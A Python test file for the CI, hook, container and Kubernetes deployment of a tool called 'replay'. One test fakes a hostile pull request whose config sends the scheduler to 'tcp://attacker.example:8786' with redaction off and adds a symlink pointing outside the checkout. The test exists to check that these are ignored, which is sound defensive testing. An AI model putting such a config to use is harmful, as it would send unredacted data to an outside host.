"""What CI servers and clusters are given: the steps of the Action, the GitLab job, the hook, the image and the CronJob."""

from __future__ import annotations

import os
import re
import shlex
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.main import get_command

from replay.cli.app import app
from tests.support.interchange import gitlab_issues, junit_cases, sarif_results

ROOT = Path(__file__).parents[2]
ACTION = yaml.safe_load((ROOT / "action.yml").read_text("utf-8"))
GITLAB = yaml.safe_load((ROOT / "deploy" / "gitlab.yml").read_text("utf-8"))["replay"]
STEPS: dict[str, dict[str, Any]] = {step["name"]: step for step in ACTION["runs"]["steps"]}


@pytest.fixture
def place(short_sample: Path, tmp_path: Path) -> Path:
    """A checkout with a sample in it, and a `replay` on the path."""
    shutil.copytree(short_sample, tmp_path / "repo" / "sample")
    (tmp_path / "bin").mkdir()
    command = tmp_path / "bin" / "replay"
    command.write_text(f'#!/bin/sh\nexec {shlex.quote(sys.executable)} -m replay "$@"\n')
    command.chmod(0o755)
    return tmp_path


def shell(place: Path, script: str, **environment: str) -> subprocess.CompletedProcess[str]:
    path = os.pathsep.join((str(place / "bin"), os.environ["PATH"]))
    known = {**os.environ, "PYTHONPATH": str(ROOT), "PATH": path, "REPLAY_WORKERS": "1", **environment}
    command = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script]
    return subprocess.run(command, cwd=place / "repo", env=known, capture_output=True, text=True, check=False)


def step(place: Path, name: str, **inputs: str) -> subprocess.CompletedProcess[str]:
    """Run a step of the Action as a runner does: inputs become its environment."""
    given = {**{key: str(each.get("default", "")) for key, each in ACTION["inputs"].items()}, **inputs}
    environment = {
        key: re.sub(r"\$\{\{ inputs\.([\w-]+) \}\}", lambda found: given[found[1]], value)
        for key, value in STEPS[name]["env"].items()
    }
    for file in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_PATH", "GITHUB_ENV"):
        environment[file] = str(place / file)
        (place / file).touch()
    base = {"GITHUB_BASE_REF": inputs.get("base-ref", "")}
    return shell(place, STEPS[name]["run"], RUNNER_TEMP=str(place), **base, **environment)


def pull_request(place: Path, base: dict[str, str], head: dict[str, str]) -> Path:
    """A shallow clone of a pull request: the files of its base branch, and those that it changes."""
    origin = place / "origin"
    git = ("git", "-c", "user.name=a", "-c", "user.email=a@b.c", "-C")
    subprocess.run(["git", "init", "--quiet", "--initial-branch=main", origin], check=True)
    for branch, files in (("main", base), ("change", head)):
        if branch != "main":
            subprocess.run([*git, origin, "checkout", "--quiet", "-b", branch], check=True)
        for name, text in files.items():
            (origin / name).write_text(text)
        subprocess.run([*git, origin, "add", "."], check=True)
        subprocess.run([*git, origin, "commit", "--quiet", "--allow-empty", "-m", branch], check=True)
    shutil.rmtree(place / "repo")
    clone = ["git", "clone", "--quiet", "--depth=1", "--branch=change", f"file://{origin}", str(place / "repo")]
    subprocess.run(clone, check=True)
    return place / "repo"


BASES = [
    ("a file of the base branch", {"replay.toml": "tz = 'UTC'\n"}, "tz = 'UTC'\n"),
    ("no file there", {"a": ""}, ""),
]


@pytest.mark.parametrize(("base", "expected"), [row[1:] for row in BASES], ids=[row[0] for row in BASES])
def test_the_file_of_the_base_branch_counts_and_not_that_of_the_pull_request(
    base: dict[str, str], expected: str, place: Path
) -> None:
    repo = pull_request(place, base, {"replay.toml": "scheduler = 'tcp://attacker.example:8786'\nredact = false\n"})
    (repo / ".replay-base.toml").symlink_to(place / "outside")
    done = step(place, "Take the file of the base branch", **{"base-ref": "main"})
    assert done.returncode == 0, done.stderr
    config = (place / "GITHUB_ENV").read_text().strip().removeprefix("REPLAY_CONFIG=")
    assert (repo / config).read_text() == expected
    before = [line for line in GITLAB["before_script"] if "git" in line or "REPLAY_CONFIG" in line]
    print_it = 'cat "$REPLAY_CONFIG"'
    gitlab = shell(place, "\n".join((*before, print_it)), CI_MERGE_REQUEST_TARGET_BRANCH_NAME="main")
    assert (gitlab.returncode, gitlab.stdout) == (0, expected), gitlab.stderr
    assert not (place / "outside").exists()


def test_a_push_reads_the_file_of_its_checkout(place: Path) -> None:
    done = step(place, "Take the file of the base branch")
    assert (done.returncode, (place / "GITHUB_ENV").read_text()) == (0, "")


SAMPLE = {
    "candidate": "sample/candidate",
    "current": "sample/current",
    "logs": "sample/audit.jsonl",
    "cluster": "sample/cluster.jsonl.zst",
}


@pytest.mark.slow
def test_the_action_checks_and_replays(place: Path) -> None:
    checked = step(place, "Check the manifests", **SAMPLE)
    assert checked.returncode == 0, checked.stderr
    done = step(place, "Replay the audit log", **SAMPLE)
    assert done.returncode == 1, done.stderr
    assert done.stdout.startswith("::error file=sample/candidate/vap/")
    outputs = dict(line.split("=", 1) for line in (place / "GITHUB_OUTPUT").read_text().splitlines())
    assert set(outputs) == set(ACTION["outputs"])
    assert sarif_results(Path(outputs["sarif"]).read_text())
    comment = Path(outputs["comment"]).read_text()
    assert comment.startswith("### ⛔")
    assert comment in (place / "GITHUB_STEP_SUMMARY").read_text()
    assert step(place, "Replay the audit log", **SAMPLE, **{"fail-on": "lockout undecided"}).returncode in (0, 1)
    assert step(place, "Replay the audit log", **SAMPLE, **{"fail-on": "none"}).returncode == 0


def test_every_value_of_the_action_comes_through_the_environment() -> None:
    """A title of a pull request in a script would be run; in the environment it is a text."""
    for each in STEPS.values():
        assert "${{" not in each["run"]
        assert each["shell"] == "bash"
    used = set(re.findall(r"inputs\.([\w-]+)", str([each["env"] for each in STEPS.values()])))
    assert used == set(ACTION["inputs"])


@pytest.mark.slow
def test_the_gitlab_job(place: Path) -> None:
    variables = {key: str(value) for key, value in GITLAB["variables"].items()}
    variables |= {"REPLAY_LOGS": SAMPLE["logs"], "REPLAY_CLUSTER": SAMPLE["cluster"]}
    variables |= {"REPLAY_CANDIDATE": SAMPLE["candidate"], "REPLAY_CURRENT": SAMPLE["current"]}
    done = shell(place, "\n".join(GITLAB["script"]), **variables)
    assert done.returncode == 1, done.stderr
    repo = place / "repo"
    reports = GITLAB["artifacts"]["reports"]
    issues = [gitlab_issues((repo / name).read_text()) for name in reports["codequality"]]
    assert any(issue.location.path.startswith("sample/candidate/") for found in issues for issue in found)
    assert any(case.find("failure") is not None for case in junit_cases((repo / reports["junit"]).read_text()))
    assert (repo / GITLAB["artifacts"]["paths"][0]).stat().st_size < 60_000
    assert (repo / ".replay" / "audit.store" / "store.json").exists()


def test_the_hook_is_a_command() -> None:
    (hook,) = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
    name, command = hook["entry"].split()
    assert name in (ROOT / "pyproject.toml").read_text("utf-8")
    assert command in get_command(app).commands  # type: ignore[attr-defined]


def test_the_hook_checks_the_candidate_of_the_project(place: Path) -> None:
    (place / "repo" / "replay.toml").write_text('candidate = "sample/candidate"\n')
    (hook,) = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
    assert shell(place, hook["entry"]).returncode == 0
    (place / "repo" / "sample" / "candidate" / "vap" / "bad.yaml").write_text("kind: Pod\napiVersion: v1\n")
    assert shell(place, hook["entry"]).returncode == 2


def pods(document: Any) -> list[Any]:
    """The pods that a manifest makes."""
    spec = document["spec"]
    spec = spec.get("jobTemplate", document)["spec"]
    return [spec["template"]["spec"]] if "template" in spec else []


@pytest.mark.parametrize("name", ["cronjob.yaml", "listen.yaml", "serve/serve.yaml"])
def test_a_manifest_runs_commands_that_there_are_as_nobody(name: str) -> None:
    documents = [*yaml.safe_load_all((ROOT / "deploy" / name).read_text("utf-8"))]
    found = [pod for document in documents for pod in pods(document)]
    assert found
    for pod in found:
        (container,) = pod["containers"]
        command = get_command(app).commands[container["args"][0]]  # type: ignore[attr-defined]
        options = {option for parameter in command.params for option in parameter.opts}
        variables = {parameter.envvar for parameter in command.params}
        assert {each.partition("=")[0] for each in container["args"] if each.startswith("--")} <= options
        assert {each["name"] for each in container.get("env", ())} <= variables
        assert pod["securityContext"]["runAsNonRoot"]
        assert container["securityContext"]["readOnlyRootFilesystem"]
        assert {each["name"] for each in container["volumeMounts"]} == {each["name"] for each in pod["volumes"]}


def runtime_lock(*extras: str) -> str:
    """What of `requirements.lock` the project needs with some extras, by what each package there is said to be needed for."""
    blocks = re.split(r"\n(?=[a-z])", (ROOT / "requirements.lock").read_text("utf-8").strip())
    blocks = [block for block in blocks if not block.startswith("#")]
    project = tomllib.loads((ROOT / "pyproject.toml").read_text("utf-8"))["project"]
    wanted = [*project["dependencies"], *(each for name in extras for each in project["optional-dependencies"][name])]
    names = {re.split(r"[^\w.-]", each.lower())[0] for each in wanted}
    while True:
        needed = [
            block
            for block in blocks
            if block.split("==")[0] in names or names & set(re.findall(r"# *(?:via )?([\w.-]+)$", block, re.MULTILINE))
        ]
        found = {block.split("==")[0] for block in needed}
        if found <= names:
            return "".join(f"{block}\n" for block in needed)
        names |= found


@pytest.mark.parametrize(
    ("name", "extras"), [("requirements", ("listen", "serve")), ("fleet", ("listen", "bucket", "dask"))]
)
def test_the_lock_of_an_image_is_what_the_project_needs_of_that_of_developers(
    name: str, extras: tuple[str, ...], request: pytest.FixtureRequest
) -> None:
    path = ROOT / "deploy" / f"{name}.lock"
    if request.config.getoption("--update-golden"):
        path.write_text(runtime_lock(*extras), "utf-8")
    assert path.read_text("utf-8") == runtime_lock(*extras)


def test_the_fleet_runs_commands_and_variables_that_there_are() -> None:
    fleet, _, job = yaml.safe_load_all((ROOT / "deploy" / "dask.yaml").read_text("utf-8"))
    pods = [fleet["spec"]["worker"]["spec"], fleet["spec"]["scheduler"]["spec"], job["spec"]["template"]["spec"]]
    for pod in pods:
        (container,) = pod["containers"]
        assert pod["securityContext"]["runAsNonRoot"]
        assert container["securityContext"]["readOnlyRootFilesystem"]
        assert {each["name"] for each in container["volumeMounts"]} == {each["name"] for each in pod["volumes"]}
    *dask, command = [pod["containers"][0] for pod in pods]
    for container in dask:
        told = subprocess.run(
            [sys.executable, "-m", *container["args"][:2], "--help"], capture_output=True, text=True, check=True
        )
        assert {each for each in container["args"] if each.startswith("--")} <= set(
            re.findall(r"--[\w-]+", told.stdout)
        )
    known = get_command(app).commands[command["args"][0]]  # type: ignore[attr-defined]
    options = {option for parameter in known.params for option in parameter.opts}
    assert {each for each in command["args"] if each.startswith("--")} <= options
    assert {each["name"] for each in command["env"]} <= {parameter.envvar for parameter in known.params}
    assert {each["name"]: each["value"] for each in command["env"]}["REPLAY_SCHEDULER"] == "tcp://replay-scheduler:8786"


CONTAINERFILE = (ROOT / "deploy" / "Containerfile").read_text("utf-8").replace("\\\n", " ")


def test_the_image_is_run_by_nobody_and_has_what_its_layers_copy() -> None:
    assert re.search(r"^USER (?!0\b)\d+:\d+$", CONTAINERFILE, re.MULTILINE)
    copied = re.findall(r"^COPY (?!--from)(.+) (/\S+)$", CONTAINERFILE, re.MULTILINE)
    assert all((ROOT / source).exists() for sources, _ in copied for source in sources.split())


@pytest.mark.slow
@pytest.mark.nightly
def test_the_layers_of_the_image_install_a_command_without_what_developers_need(tmp_path: Path) -> None:
    """What `RUN` says, in a directory in the place of the root."""
    (tmp_path / "src").mkdir()
    for line in CONTAINERFILE.partition("\nFROM ")[2].partition("\nFROM ")[0].splitlines():
        word, _, rest = line.partition(" ")
        if word == "COPY":
            *sources, target = rest.split()
            for source in sources:
                place = tmp_path / target.strip("/")
                if (ROOT / source).is_dir():
                    shutil.copytree(ROOT / source, place, ignore=shutil.ignore_patterns("__pycache__"))
                else:
                    shutil.copy(ROOT / source, place / Path(source).name)
        elif word == "RUN":
            script = (
                rest.replace("/opt/", f"{tmp_path}/opt/")
                .replace("/src", f"{tmp_path}/src")
                .replace("python -m", f"{sys.executable} -m")
            )
            subprocess.run(["sh", "-ec", script], check=True, cwd=tmp_path)
    installed = tmp_path / "opt" / "replay" / "bin"
    done = subprocess.run(
        [installed / "replay", "--version"], capture_output=True, text=True, check=True, env={"PATH": ""}
    )
    assert done.stdout.startswith("replay ")
    assert not (installed / "pytest").exists()
    own = ROOT / "sample_audit" / "shop"
    ran = subprocess.run(
        [installed / "replay", "run", own, "--brief"], capture_output=True, text=True, check=False, cwd=tmp_path
    )
    assert ran.returncode == 1, ran.stderr
